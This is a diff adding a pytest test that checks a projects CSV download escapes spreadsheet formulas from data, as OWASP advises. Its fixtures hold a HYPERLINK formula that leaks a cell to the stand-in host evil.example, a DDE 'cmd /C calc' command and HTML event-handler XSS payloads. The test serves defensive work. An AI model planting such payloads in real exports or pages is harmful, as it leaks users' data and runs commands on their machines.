@@ -8,6 +8,8 @@ by other tools included. The same store is served to a real browser in ``tests/b
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 
 import pytest
@@ -86,3 +88,29 @@ def test_the_map_data_carries_names_as_json_strings(hostile_client):
     html = page(hostile_client, "/")
     block = re.search(r'<script type="application/json" id="map-data">(.*?)</script>', html, flags=re.S)
     assert block and "Hostile Town" in block.group(1) and "<img" not in block.group(1)
+
+
+def test_the_projects_csv_gives_formulas_from_data_as_text(hostile_client):
+    """The Find projects download is for spreadsheets: a cell that starts as a formula would run there (a
+    HYPERLINK leaking other cells, a DDE command), so it starts with a quote, as OWASP advises; other cells are
+    as they were, and the SPARQL CSV of the same name stays exact (its format is the SPARQL 1.1 standard's)."""
+    response = hostile_client.get("/projects.csv?city=hostile-town")
+    rows = {row["project"]: row for row in csv.DictReader(io.StringIO(response.get_data(as_text=True)))}
+    formula = rows["https://w3id.org/ascn/id/project/formula-project"]
+    assert formula["name"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Formula project")'
+    assert formula["description"] == "'+cmd|' /C calc'!A0"
+    assert formula["city"] == "<img src=x onerror=\"document.title='pwned'\">Hostile Town"
+    assert rows["https://w3id.org/ascn/id/project/hostile-project"]["name"] == (
+        "<b onmouseover=\"document.title='pwned'\">Hostile project</b>"
+    )
+    sparql = hostile_client.get(
+        "/sparql",
+        query_string={
+            "query": "SELECT ?name WHERE { <https://w3id.org/ascn/id/project/formula-project> <http://www.w3.org/2000/01/rdf-schema#label> ?name }",
+            "format": "csv",
+        },
+    )
+    assert (
+        sparql.get_data(as_text=True)
+        == 'name\r\n"=HYPERLINK(""https://evil.example/?leak=""&A1,""Formula project"")"\r\n'
+    )
